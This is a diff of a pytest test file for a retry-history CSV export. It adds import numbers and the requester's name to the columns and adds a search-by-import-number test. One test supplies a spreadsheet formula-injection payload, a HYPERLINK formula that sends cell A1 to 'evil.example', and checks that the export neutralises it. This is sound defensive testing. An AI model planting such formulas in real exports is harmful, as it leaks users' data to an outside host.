@@ -565,7 +565,8 @@ def test_the_page_links_to_a_csv_of_the_same_filters(supervisor_client, clerk):
 
 
 def test_the_csv_has_a_header_and_utc_times(supervisor_client, clerk, settings):
-    """Times are UTC ISO 8601 whatever the site's zone; the file is an attachment."""
+    """Times are UTC ISO 8601 whatever the site's zone; the file is an attachment; both
+    imports' numbers and the requester's full name stand beside the GUIDs and the login."""
     settings.TIME_ZONE = "America/New_York"
     done = retry(
         clerk,
@@ -573,7 +574,9 @@ def test_the_csv_has_a_header_and_utc_times(supervisor_client, clerk, settings):
         batch_code="B-7",
         outcome=Outcome.SUBMITTED,
         upstream_status_code=200,
+        source_task_id=47223,
         new_task_guid=guid(),
+        new_task_id=47301,
         new_task_status="Completed",
         new_task_finished=True,
         new_task_end_date=datetime(2026, 11, 20, 9, 20, 5, 123456, tzinfo=UTC),
@@ -585,21 +588,23 @@ def test_the_csv_has_a_header_and_utc_times(supervisor_client, clerk, settings):
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response["Content-Disposition"].startswith('attachment; filename="retry-history-')
     header, row = csv_rows(response)
-    assert header[:12] == [
+    values = dict(zip(header, row, strict=True))
+    assert header == [
         "id",
         "requested_at_utc",
         "requested_by",
+        "requested_by_name",
+        "source_import",
         "source_task_guid",
         "batch_mode",
         "batch_code",
         "outcome",
         "upstream_status_code",
+        "new_import",
         "new_task_guid",
         "new_task_status",
         "new_task_end_utc",
         "import_note",
-    ]
-    assert header[12:] == [
         "rows_before",
         "rows_fixed",
         "rows_still_kicked_out",
@@ -615,22 +620,30 @@ def test_the_csv_has_a_header_and_utc_times(supervisor_client, clerk, settings):
         "file_bytes",
         "file_sha256",
     ]
-    assert row[12:22] == [""] * 10  # never compared, never reconciled, in no bulk
-    assert row[22:] == ["reimport", "", "", ""]  # a re-import: no file
-    assert row[:12] == [
-        str(done.pk),
-        "2026-11-20T09:12:31Z",
-        "carla",
-        done.source_task_guid,
-        "use existing batch",
-        "B-7",
-        "submitted",
-        "200",
-        done.new_task_guid,
-        "Completed",
-        "2026-11-20T09:20:05Z",
-        "Fixed the meter",
-    ]
+    assert values == {
+        "id": str(done.pk),
+        "requested_at_utc": "2026-11-20T09:12:31Z",
+        "requested_by": "carla",
+        "requested_by_name": "Carla Clerk",
+        "source_import": "47223",
+        "source_task_guid": done.source_task_guid,
+        "batch_mode": "use existing batch",
+        "batch_code": "B-7",
+        "outcome": "submitted",
+        "upstream_status_code": "200",
+        "new_import": "47301",
+        "new_task_guid": done.new_task_guid,
+        "new_task_status": "Completed",
+        "new_task_end_utc": "2026-11-20T09:20:05Z",
+        "import_note": "Fixed the meter",
+        # never compared, never reconciled, in no bulk
+        **dict.fromkeys(header[15:25], ""),
+        # a re-import: no file
+        "kind": "reimport",
+        "file_name": "",
+        "file_bytes": "",
+        "file_sha256": "",
+    }
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
@@ -638,9 +651,9 @@ def test_a_csv_cell_a_spreadsheet_would_run_is_neutralised(supervisor_client, cl
     """A note or batch code starting with a formula character gets a leading quote."""
     note = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
     retry(clerk, import_note=note, batch_code=f"{start}1+1")
-    (_, row) = csv_rows(supervisor_client.get(HISTORY_CSV))
-    assert row[11] == "'" + note
-    assert row[5] == f"'{start}1+1"
+    (header, row) = csv_rows(supervisor_client.get(HISTORY_CSV))
+    assert row[header.index("import_note")] == "'" + note
+    assert row[header.index("batch_code")] == f"'{start}1+1"
 
 
 def test_the_csv_keeps_to_the_filters_and_to_who_may_see(clerk_client, clerk, other_clerk):
@@ -685,3 +698,23 @@ def test_the_csv_opens_in_excel_with_accents_intact(supervisor_client, django_us
     assert header[0] == "id"
     assert row[header.index("requested_by")] == "seán"
     assert row[header.index("batch_code")] == '\'=HYPERLINK("x")'
+
+
+def test_the_history_finds_a_retry_by_either_imports_number_and_shows_both(
+    supervisor_client, clerk
+):
+    """Sam types 47223 (the import a clerk named) or 47301 (the new import): the retry is
+    found, and its row says "Import 47223" and "Import 47301", not GUIDs."""
+    wanted = retry(
+        clerk,
+        outcome=Outcome.SUBMITTED,
+        source_task_id=47223,
+        new_task_guid=guid(),
+        new_task_id=47301,
+    )
+    retry(clerk, source_task_id=47224)
+    for number in ("47223", "47301", "#47223"):
+        page = supervisor_client.get(HISTORY, {"q": number})
+        assert [r.pk for r in page.context["page"].retries] == [wanted.pk], number
+    text = supervisor_client.get(HISTORY, {"q": "47223"}).content.decode()
+    assert ">Import 47223</a>" in text and ">Import 47301</a>" in text
